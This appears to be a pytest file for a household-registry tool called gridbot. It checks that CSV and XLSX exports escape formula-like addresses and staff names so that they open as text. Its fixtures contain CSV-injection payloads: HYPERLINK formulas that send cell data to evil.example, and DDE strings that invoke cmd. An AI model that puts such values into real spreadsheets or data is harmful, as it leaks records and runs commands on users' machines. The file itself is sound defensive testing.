"""Exports opened in Excel or WPS run no formula hidden in the data: a household address or a
staff name that starts like a formula reaches the spreadsheet as text, in CSV and in XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.devkit.demo import DEMO_DATA_KEY
from tests.cli import run_gridbot
from tests.registry_files import DEMO_ROWS, GRIDS, ROUTES, STAFF

EVIL_ADDRESS = '=HYPERLINK("http://evil.example/?d="&E2&F2,"点击")'
EVIL_HEAD = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NOTE = "+1+cmd|' /C calc'!A0"
EVIL_NAMES = {
    "liminghua": '=HYPERLINK("http://evil.example/?n="&A2,"李明华")',
    "zhaoxiaoyan": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_STARTS = ("=", "+", "@")


def write_csv(path: Path, rows: list[dict]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def gridbot(env: dict[str, str], *args: str):
    result = run_gridbot(*args, env=env, timeout=90)
    assert result.returncode == 0, result.stderr
    return result


def sheet_cells(path: Path) -> list[list]:
    """Every cell of the first sheet, as openpyxl reads it (formulas are not evaluated)."""
    book = load_workbook(path)
    cells = [list(row) for row in book.worksheets[0].iter_rows()]
    book.close()
    return cells


def formula_like(values) -> list:
    return [value for value in values if str(value).startswith(FORMULA_STARTS)]


@pytest.fixture(scope="module")
def registry(tmp_path_factory) -> dict[str, str]:
    """The demo county whose households H0001-H0003 were imported with formula-like text."""
    folder = tmp_path_factory.mktemp("formulas")
    changes = {
        "H0001": {"address": EVIL_ADDRESS},
        "H0002": {"head_name": EVIL_HEAD},
        "H0003": {"note": EVIL_NOTE},
    }
    households = write_csv(
        folder / "households.csv", [{**row, **changes.get(row["code"], {})} for row in DEMO_ROWS]
    )
    env = {
        "GRIDBOT_DATABASE_URL": f"sqlite+aiosqlite:///{folder / 'gridbot.db'}",
        "GRIDBOT_DATA_KEY": DEMO_DATA_KEY,
    }
    gridbot(
        env,
        "import",
        "--grids",
        str(GRIDS),
        "--staff",
        str(STAFF),
        "--routes",
        str(ROUTES),
        "--households",
        str(households),
    )
    return env


@pytest.fixture(scope="module")
def county(tmp_path_factory) -> dict[str, str]:
    """The demo county whose staff list gave two workers formula-like names."""
    folder = tmp_path_factory.mktemp("names")
    with STAFF.open(encoding="utf-8") as file:
        rows = [
            {**row, "name": EVIL_NAMES.get(row["userid"], row["name"])}
            for row in csv.DictReader(file)
        ]
    staff = write_csv(folder / "staff.csv", rows)
    env = {"GRIDBOT_DATABASE_URL": f"sqlite+aiosqlite:///{folder / 'gridbot.db'}"}
    gridbot(env, "import", "--grids", str(GRIDS), "--staff", str(staff), "--routes", str(ROUTES))
    return env


def unmasked(*args: str) -> tuple[str, ...]:
    return ("export", "households", "--unmasked", "--purpose", "民政局低保复核", *args)


def test_unmasked_csv_export_writes_a_formula_like_address_as_readable_text(registry):
    result = gridbot(registry, *unmasked())

    rows = {row[0]: row for row in csv.reader(io.StringIO(result.stdout))}
    assert rows["H0001"][2] == "'" + EVIL_ADDRESS
    assert rows["H0002"][3] == "'" + EVIL_HEAD
    assert rows["H0003"][9] == "'" + EVIL_NOTE
    assert rows["H0001"][4:6] == ["13900000001", "371501195003120018"]  # the rest untouched
    assert formula_like(cell for row in rows.values() for cell in row) == []


def test_unmasked_xlsx_export_holds_the_address_as_text_not_as_a_formula(registry, tmp_path):
    out = tmp_path / "households.xlsx"

    gridbot(registry, *unmasked("--format", "xlsx", "--out", str(out)))

    cells = {row[0].value: row for row in sheet_cells(out)}
    address = cells["H0001"][2]
    assert (address.data_type, address.value) == ("s", "'" + EVIL_ADDRESS)
    assert cells["H0002"][3].value == "'" + EVIL_HEAD
    members = cells["H0001"][6]
    assert isinstance(members.value, int) and members.data_type == "n"  # a count Excel sums
    assert [c.coordinate for row in cells.values() for c in row if c.data_type == "f"] == []
    assert formula_like(c.value for row in cells.values() for c in row) == []


def test_assessment_csv_writes_formula_like_staff_names_as_text(county):
    result = gridbot(county, "report", "assessment", "--quarter", "2026Q4", "--format", "csv")

    rows = {row[0]: row for row in csv.reader(io.StringIO(result.stdout))}
    assert rows["liminghua"][1] == "'" + EVIL_NAMES["liminghua"]
    assert rows["zhaoxiaoyan"][1] == "'" + EVIL_NAMES["zhaoxiaoyan"]
    assert rows["sunjianguo"][1] == "孙建国"
    assert formula_like(cell for row in rows.values() for cell in row) == []


def test_assessment_xlsx_holds_formula_like_staff_names_as_text(county, tmp_path):
    out = tmp_path / "考核.xlsx"

    gridbot(
        county,
        "report",
        "assessment",
        "--quarter",
        "2026Q4",
        "--format",
        "xlsx",
        "--out",
        str(out),
    )

    cells = {row[0].value: row for row in sheet_cells(out)}
    name = cells["liminghua"][1]
    assert (name.data_type, name.value) == ("s", "'" + EVIL_NAMES["liminghua"])
    assert cells["zhaoxiaoyan"][1].value == "'" + EVIL_NAMES["zhaoxiaoyan"]
    assert [c.coordinate for row in cells.values() for c in row if c.data_type == "f"] == []
    assert formula_like(c.value for row in cells.values() for c in row) == []
